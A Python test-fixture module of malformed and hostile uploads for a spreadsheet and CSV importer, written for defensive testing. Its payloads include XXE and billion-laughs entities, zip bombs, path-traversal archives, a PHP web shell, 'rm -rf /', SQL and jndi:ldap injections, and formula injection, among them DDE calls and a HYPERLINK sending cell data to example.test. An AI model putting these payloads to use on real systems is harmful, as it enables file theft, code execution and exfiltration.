"""Files that somebody sends by mistake or on purpose, none of which is a table to import."""

import bz2
import gzip
import io
import lzma
import stat
import struct
import tarfile
import warnings
import zipfile

import openpyxl

HEADING = "nr;gruppe;navn"
ENTITY = '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>'
LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
SHEET = "xl/worksheets/sheet1.xml"
MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
BOMB_BYTES = 60 * 1024**2


def workbook(change=None, cells=((HEADING, 1), ("a", 2))) -> bytes:
    """A workbook of two rows; ``change(book)`` does what it likes to it."""
    book = openpyxl.Workbook()
    for row in cells:
        book.active.append(row)
    if change:
        change(book)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def rewritten(changes: dict[str, bytes | None], *, extra: dict[str, bytes] | None = None) -> bytes:
    """A workbook with other members; None leaves one out."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(workbook())) as old,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for name in old.namelist():
            content = changes.get(name, old.read(name))
            if content is not None:
                new.writestr(name, content)
        for name, content in (extra or {}).items():
            new.writestr(name, content)
    return out.getvalue()


def archive(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in members.items():
            file.writestr(name, content)
    return out.getvalue()


def lying(content: bytes) -> bytes:
    """The archive with every size in its directory said to be one byte."""
    data, at = bytearray(content), 0
    while (at := data.find(b"PK\x01\x02", at)) >= 0:
        data[at + 24 : at + 28] = struct.pack("<I", 1)
        at += 4
    return bytes(data)


def encrypted(content: bytes) -> bytes:
    """The archive with every member said to be behind a password."""
    data = bytearray(content)
    for magic, flags in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        at = 0
        while (at := data.find(magic, at)) >= 0:
            data[at + flags] |= 1
            at += 4
    return bytes(data)


def wrong_sum(content: bytes) -> bytes:
    """The archive with every check sum in its directory one off."""
    data, at = bytearray(content), 0
    while (at := data.find(b"PK\x01\x02", at)) >= 0:
        data[at + 16] ^= 1
        at += 4
    return bytes(data)


def packed(method: int) -> bytes:
    """The workbook packed as no spreadsheet packs it."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(workbook())) as old,
        zipfile.ZipFile(out, "w", method) as new,
    ):
        for name in old.namelist():
            new.writestr(name, old.read(name))
    return out.getvalue()


def twice(name: str) -> bytes:
    """A workbook that has a member two times: which one is read is anybody's guess."""
    out = io.BytesIO(workbook())
    with warnings.catch_warnings(action="ignore"), zipfile.ZipFile(out, "a") as book:
        book.writestr(name, b"<x/>")
    return out.getvalue()


def link(to: str) -> bytes:
    """An archive whose sheet is a link to a file of the machine."""
    out = io.BytesIO(rewritten({SHEET: None}))
    with zipfile.ZipFile(out, "a") as book:
        member = zipfile.ZipInfo(SHEET)
        member.external_attr = (stat.S_IFLNK | 0o777) << 16
        book.writestr(member, to)
    return out.getvalue()


def sheet(rows: str, *, before: str = "", encoding: str = "utf-8") -> bytes:
    """A workbook whose sheet holds these rows, in this encoding."""
    words = f'<?xml version="1.0" encoding="{encoding}"?>{before}'
    words += f"<worksheet {MAIN}><sheetData>{rows}</sheetData></worksheet>"
    return rewritten({SHEET: words.encode(encoding)})


def cell(kind: str, value: str) -> bytes:
    """A workbook with one cell of this kind under a heading."""
    heading = '<row r="1"><c r="A1" t="inlineStr"><is><t>nr</t></is></c></row>'
    return sheet(f'{heading}<row r="2"><c r="A2" t="{kind}"><v>{value}</v></c></row>')


def moved(name: str) -> bytes:
    """A workbook whose sheet, with an entity, is a member of another name."""
    relations = "xl/_rels/workbook.xml.rels"
    with zipfile.ZipFile(io.BytesIO(workbook())) as book:
        told = book.read(relations).replace(b"worksheets/sheet1.xml", name.encode())
    entity = f"{LAUGHS}<worksheet {MAIN}><sheetData/></worksheet>"
    return rewritten({SHEET: None, relations: told}, extra={f"xl/{name}": entity.encode()})


def tar() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as file:
        member = tarfile.TarInfo("../../etc/passwd")
        member.size = 1
        file.addfile(member, io.BytesIO(b"x"))
    return out.getvalue()


def text(body: str) -> bytes:
    return body.encode("utf-8-sig")


PLAIN = {
    "empty": b"",
    "spaces": b" \r\n \t ",
    "byte order mark alone": b"\xef\xbb\xbf",
    "separators alone": b";;;\n;;;\n",
    "NUL": text(HEADING + "\n1;\x00;a"),
    "NUL alone": b"\x00" * 1000,
    "latin-1": "nr;gruppe;navn\n1;drift;Kørsel".encode("latin-1"),
    "UTF-16": (HEADING + "\n1;2;3").encode("utf-16"),
    "UTF-16 big": (HEADING + "\n1;2;3").encode("utf-16-be"),
    "UTF-32": (HEADING + "\n1;2;3").encode("utf-32"),
    "overlong letter": HEADING.encode() + b"\n\xc0\xaf;1;2",
    "half a surrogate": HEADING.encode() + b"\n\xed\xa0\x80;1;2",
    "letter cut off": HEADING.encode() + b"\n1;2;\xc3",
    "not a character": text(HEADING + "\n1;2;\uffff"),
    "16,384 columns": text(";".join(f"c{n}" for n in range(16_384)) + "\n"),
    "16,384 empty columns": text(";" * 16_384 + "\n1"),
    "quote without end": text(HEADING + '\n"1;2;3'),
    "quote inside": text(HEADING + '\n"a"b;2;3'),
    "cell of 200,000 letters": text(HEADING + "\n1;2;" + "x" * 200_000),
    "heading of 200,000 letters": text("x" * 200_000 + "\n1"),
    "6 MB": b"a;b\n" + b"1;2\n" * 1_600_000,
    "heading twice": text("nr;nr;nr\n1;2;3"),
    "heading of another table": text("hest;ko;gris\n1;2;3"),
    "more cells than headings": text("nr\n1;2;3;4;5"),
    "right to left": text("\u202enr;gruppe\n1;2"),
    "zero width": text("n\u200br;gruppe\n1;2"),
    "PDF": b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF",
    "PNG": b"\x89PNG\r\n\x1a\n" + bytes(range(256)),
    "HTML": b"<!doctype html><script>alert(1)</script>",
    "XML with entity": (ENTITY + "<x>&y;</x>").encode(),
    "SVG": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "JSON": b'{"nr": 1}',
    "program": b"MZ\x90\x00\x03" + bytes(200),
    "shell": b"#!/bin/sh\nrm -rf /\n",
    "gzip": gzip.compress(b"nr;gruppe\n1;2" * 1000),
    "tar": tar(),
    "old Excel": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000),
    "archive": archive({"a.csv": b"nr;gruppe\n1;2"}),
    "UTF-16 without a mark": (HEADING + "\n1;2;3").encode("utf-16-le"),
    "continuation alone": HEADING.encode() + b"\n1;2;\x80",
    "letter of five bytes": HEADING.encode() + b"\n1;2;\xf8\x88\x80\x80\x80",
    "beyond the last letter": HEADING.encode() + b"\n1;2;\xf4\x90\x80\x80",
    "quotes of Windows": HEADING.encode() + b"\n1;2;\x93a\x94",
    "two byte order marks": b"\xef\xbb\xbf" + text(HEADING + "\n1;2;3"),
    "escape": text(HEADING + "\n1;2;\x1b[2J"),
    "bell": text(HEADING + "\n\x07;2;3"),
    "vertical tab": text(HEADING + "\n1;\x0b;3"),
    "delete": text(HEADING + "\n1;2;a\x7f"),
    "NUL in the heading": text("nr\x00;gruppe\n1;2"),
    "line break in the heading": text('"nr\n";gruppe\n1;2'),
    "old line breaks": text(HEADING.replace(";", "\r") + "\r1;2;3"),
    "CPR in the heading": text("nr;010190-1234\n1;2"),
    "CPR under a heading of another table": text("hest;ko\n010190-1234;2"),
    "2,000 quotes": text(HEADING + "\n" + '"' * 2_001),
    "numbers alone": text("1;2;3\n4;5;6"),
    "hidden heading": text("\u200b;\u2060\n1;2"),
    "wide letters": text("\uff4e\uff52;gruppe\n1;2"),
    "25,000 rows": text("nr\n" + "1\n" * 25_000),
    "heading of Excel": text("sep=;\nnr;gruppe\n1;2"),
    "SYLK": b'ID;PWXL;N;E\nC;Y1;X1;K0;EEXEC("calc")\nE\n',
    "DIF": b'TABLE\n0,1\n"EXCEL"\nVECTORS\n0,1\n',
    "JPEG": b"\xff\xd8\xff\xe0" + bytes(100) + b"\xff\xd9",
    "GIF": b"GIF89a" + bytes(50),
    "ELF": b"\x7fELF" + bytes(100),
    "class of Java": b"\xca\xfe\xba\xbe" + bytes(60),
    "7z": b"7z\xbc\xaf\x27\x1c" + bytes(60),
    "RAR": b"Rar!\x1a\x07\x01\x00" + bytes(60),
    "bzip2": bz2.compress(b"nr;gruppe\n1;2" * 1000),
    "xz": lzma.compress(b"nr;gruppe\n1;2" * 1000),
    "SQLite": b"SQLite format 3\x00" + bytes(100),
    "RTF": b"{\\rtf1 {\\object}}",
    "PHP": b"<?php system($_GET['c']); ?>",
    "mail": b"From: a@example.test\nSubject: nr;gruppe\n\nhej",
    "table of Excel 2003": b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook/>',
    "page as a table": b"<table><tr><td>nr</td></tr></table>",
    "formula in the heading": text("=1+1;gruppe\n1;2"),
    "call of a program": text("nr;gruppe\n=cmd|' /C calc'!A0;2"),
}

WORKBOOKS = {
    "empty": b"",
    "text": b"nr;gruppe\n1;2",
    "magic alone": b"PK\x03\x04",
    "end of an archive alone": b"PK\x05\x06" + bytes(18),
    "no member": archive({}),
    "cut off": workbook()[:-100],
    "cut in half": workbook()[: len(workbook()) // 2],
    "one byte wrong": workbook().replace(b"PK\x01\x02", b"PK\x01\x03"),
    "old Excel": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000),
    "Word": archive({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"}),
    "bomb": rewritten({SHEET: b"0" * BOMB_BYTES}),
    "bomb in a picture": rewritten({}, extra={"xl/media/a.png": b"0" * BOMB_BYTES}),
    "lying bomb": lying(rewritten({SHEET: b"0" * BOMB_BYTES})),
    "lying": lying(workbook()),
    "password": encrypted(workbook()),
    "2,500 members": rewritten({}, extra={f"xl/{n}": b"" for n in range(2_500)}),
    "entity in the sheet": rewritten({SHEET: f"{ENTITY}<x>&y;</x>".encode()}),
    "laughs in the sheet": rewritten({SHEET: f"{LAUGHS}<x>&b;</x>".encode()}),
    "entity in the book": rewritten({"xl/workbook.xml": f"{ENTITY}<x>&y;</x>".encode()}),
    "entity in the types": rewritten({"[Content_Types].xml": f"{ENTITY}<x>&y;</x>".encode()}),
    "no book": rewritten({"xl/workbook.xml": None}),
    "no types": rewritten({"[Content_Types].xml": None}),
    "no sheet": rewritten({SHEET: None}),
    "no relations": rewritten({"xl/_rels/workbook.xml.rels": None}),
    "broken sheet": rewritten({SHEET: b"<worksheet><sheetData><row>"}),
    "sheet of letters": rewritten({SHEET: b"hello"}),
    "paths upwards": archive({"../../../etc/passwd": b"x", "/etc/shadow": b"x"}),
    "paths of Windows": archive({"..\\..\\windows\\system32\\a.dll": b"x"}),
    "archive in an archive": archive({"a.zip": workbook()}),
    "PDF before a book": b"%PDF-1.7\n%%EOF\n" + b"\x00" * 40,
    "entity in UTF-16": sheet("<row/>", before=LAUGHS, encoding="utf-16"),
    "entity in UTF-16 big": sheet("<row/>", before=LAUGHS, encoding="utf-16-be"),
    "entity in latin-1": sheet("<row/>", before=LAUGHS, encoding="iso-8859-1"),
    "entity in UTF-32": sheet("<row/>", before=LAUGHS, encoding="utf-32"),
    "entity in EBCDIC": sheet("<row/>", before=LAUGHS, encoding="cp037"),
    "entity in a member .XML": moved("worksheets/SHEET1.XML"),
    "entity in a member .png": moved("worksheets/sheet1.png"),
    "entity in a member without suffix": moved("worksheets/sheet1"),
    "entity in the shared texts": rewritten({}, extra={"xl/sharedStrings.xml": LAUGHS.encode()}),
    "entity in the styles": rewritten({"xl/styles.xml": f"{LAUGHS}<x>&b;</x>".encode()}),
    "entity in the properties": rewritten({"docProps/core.xml": f"{ENTITY}<x>&y;</x>".encode()}),
    "entity in the relations": rewritten(
        {"xl/_rels/workbook.xml.rels": f"{ENTITY}<x>&y;</x>".encode()}
    ),
    "document type alone": sheet("", before="<!DOCTYPE worksheet>"),
    "document type elsewhere": sheet("", before='<!DOCTYPE w SYSTEM "http://example.test/a.dtd">'),
    "bomb of shared texts": rewritten({}, extra={"xl/sharedStrings.xml": b"<si/>" * 12_000_000}),
    "bomb of styles": rewritten({"xl/styles.xml": b"<xf/>" * 12_000_000}),
    "bomb of cells": sheet("<row>" + "<c/>" * 2_000_000 + "</row>"),
    "wrong check sums": wrong_sum(workbook()),
    "packed with bzip2": packed(zipfile.ZIP_BZIP2),
    "packed with LZMA": packed(zipfile.ZIP_LZMA),
    "sheet twice": twice(SHEET),
    "book twice": twice("xl/workbook.xml"),
    "link to a file": link("/etc/passwd"),
    "link upwards": link("../../../../etc/passwd"),
    "sheet outside": moved("../../../etc/passwd"),
    "bomb in a bomb": rewritten({}, extra={"a.zip": archive({"b": b"0" * BOMB_BYTES}) * 100}),
    "archive after a book": workbook() + archive({"a.csv": b"nr\n1"}),
    "column XFD": workbook(cells=[["nr"]], change=lambda book: book.active.cell(2, 16_384, 1)),
    "column past the last": sheet('<row r="1"><c r="ZZZZ1"><v>1</v></c></row>'),
    "cell without a place": sheet('<row r="1"><c r="1"><v>1</v></c></row>'),
    "row past the last": sheet('<row r="1048577"><c><v>1</v></c></row>'),
    "row of a billion": sheet('<row r="999999999999"><c><v>1</v></c></row>'),
    "row below the first": sheet('<row r="-1"><c><v>1</v></c></row>'),
    "text that is not there": cell("s", "99"),
    "text below the first": cell("s", "-1"),
    "day of ISO that is none": cell("d", "2018-13-45"),
    "day of year 0": cell("d", "0000-01-01"),
    "day of year 10000": cell("d", "10000-01-01"),
    "number that is none": cell("n", "1,5"),
    "number of 5,000 digits": cell("n", "9" * 5_000),
    "number without end": cell("n", "1e999"),
    "NaN": cell("n", "NaN"),
    "yes and no that is neither": cell("b", "maybe"),
    "kind of cell that is none": cell("zzz", "1"),
    "fault of Excel": cell("e", "#REF!"),
    "cell of a million letters": sheet(
        f'<row r="1"><c t="inlineStr"><is><t>{"xyz " * 250_000}</t></is></c></row>'
    ),
    "attribute without end": rewritten({SHEET: f'<w a="{"x" * 400_000}"/>'.encode()}),
    "nested 10,000 deep": rewritten({SHEET: b"<a>" * 10_000 + b"</a>" * 10_000}),
    "two sheets in one": rewritten({SHEET: b"<a/><b/>"}),
    "unknown letter": rewritten({SHEET: b"<worksheet>\xff\xfe</worksheet>"}),
    "number of a letter that is none": rewritten({SHEET: b"<worksheet>&#0;</worksheet>"}),
    "CPR in a cell": workbook(cells=[("hest", "ko"), ("010190-1234", 2)]),
    "CPR as a number": workbook(cells=[("hest", "ko"), (3112991234, 2)]),
    "formula": workbook(cells=[("nr", "gruppe"), ("=1+1", 2)]),
    "formula in the heading": workbook(cells=[("=1+1", "gruppe"), (1, 2)]),
    "formula far to the right": workbook(cells=[("nr",), (1, None, None, "=1+1")]),
    "formula of a program": workbook(cells=[("nr", "gruppe"), ("=cmd|' /C calc'!A0", 2)]),
    "link to another file": workbook(cells=[("nr", "gruppe"), ("=[a.xlsx]Ark1!A1", 2)]),
    "200 columns": workbook(cells=[[f"c{n}" for n in range(200)], [1] * 200]),
    "20,000 rows": workbook(cells=[["nr"], *([n] for n in range(20_000))]),
    "heading of another table": workbook(cells=[("hest", "ko"), (1, 2)]),
    "empty sheet": workbook(cells=[]),
    "chart alone": workbook(
        lambda book: (book.create_chartsheet(), book.remove(book.worksheets[0]))
    ),
}

NAMES = [
    "a.ods",
    "a.xlsm",
    "a.xls",
    "a.csv.exe",
    "a",
    "",
    ".",
    "../../a",
    "a.csv\x00.pdf",
    "a.CSV.zip",
    "a.csv ",
    "a.csv/",
    "a.xlsx\n.html",
    "a.csv;.exe",
    "a.\u202evsc",
    "a.\uff43\uff53\uff56",
    "CON",
    "a.xlsb",
    "a.tsv",
    "x" * 5_000,
]

# what no cell of any table may hold, whatever the column; texts that are too long among them
NEVER = {
    "NUL": "a\x00b",
    "escape": "a\x1bb",
    "bell": "\x07a",
    "delete": "a\x7fb",
    "not a letter": "a\uffffb",
    "40,000 letters": "x" * 40_000,
    "40,000 digits": "9" * 40_000,
    "40,000 accents": "e" + "\u0301" * 40_000,
    "10,000 emoji": "\U0001f600" * 10_000,
}
# personal numbers as people write them; columns of references alone may hold such digits
PERSONAL = {
    "CPR": "010190-1234",
    "CPR together": "0101901234",
    "CPR with a blank": "010190 1234",
    "CPR with dots": "01.01.90.1234",
    "CPR with slashes": "01/01/90-1234",
    "CPR with the century": "01011990-1234",
    "CPR with a dash": "010190\u20131234",
    "CPR with a minus": "010190\u22121234",
    "CPR with a hidden mark": "010190\u200b-1234",
    "CPR with a hard blank": "010190\u00a01234",
    "CPR with a soft hyphen": "010190\u00ad1234",
    "CPR in wide digits": "\uff10\uff11\uff10\uff11\uff19\uff10-\uff11\uff12\uff13\uff14",
    "CPR in Arabic digits": "\u0660\u0661\u0660\u0661\u0669\u0660-\u0661\u0662\u0663\u0664",
    "CPR in words": "Ring til 010190 1234 i morgen",
    "CPR behind another number": "nr. 5 010190-1234",
    "CPR of 29 February": "290200-0000",
}
# what a column of days, amounts or numbers refuses, and a column of text keeps as what it is: text
TEXTS = {
    "year 0": "0000-01-01",
    "year 1": "1.1.0001",
    "year 1899": "31.12.1899",
    "year 2101": "1.1.2101",
    "year 9999": "31.12.9999",
    "year 10000": "1.1.10000",
    "no such day": "31.2.2018",
    "no leap year": "29.2.2019",
    "month 13": "1.13.2018",
    "day 0": "0.1.2018",
    "day below nought": "-1.1.2018",
    "day as in America": "12/31/2018",
    "day with an hour": "2018-05-14T12:00",
    "half a day": "14.5",
    "not a number": "NaN",
    "no end": "Infinity",
    "no end below nought": "-inf",
    "exponent": "1e9",
    "small exponent": "1e-9",
    "hexadecimal": "0x1F",
    "binary": "0b11",
    "digits in groups": "1_000",
    "two commas": "1,2,3",
    "comma alone": ",",
    "three decimals": "1,2345",
    "fraction": "\u00bd",
    "raised digit": "\u00b2",
    "hour 25": "25.00",
    "minute 60": "12.60",
    "tag": "<script>alert(1)</script>",
    "event": '" onmouseover="alert(1)',
    "address of a script": "javascript:alert(1)",
    "template": "{{ request.user }}",
    "tag of a template": "{% debug %}",
    "percent": "%s%(x)s%n",
    "braces": "{0.__class__}",
    "path": "../../etc/passwd",
    "path of Windows": "..\\..\\a",
    "database": "'; DROP TABLE citizens_citizen; --",
    "shell": "$(rm -rf /)",
    "look-up": "${jndi:ldap://example.test/a}",
    "right to left": "\u202eeslaf",
    "zero width": "a\u200bb",
}
# what a spreadsheet would run if it came back as it stands
FORMULAS = {
    "formula": "=1+1",
    "program": "=cmd|' /C calc'!A0",
    "call": '=HYPERLINK("http://example.test?"&A1)',
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1)",
    "wide formula": "\uff1d1+1",
    "formula behind an apostrophe": "'=1+1",
}
CELLS = NEVER | PERSONAL | TEXTS | FORMULAS
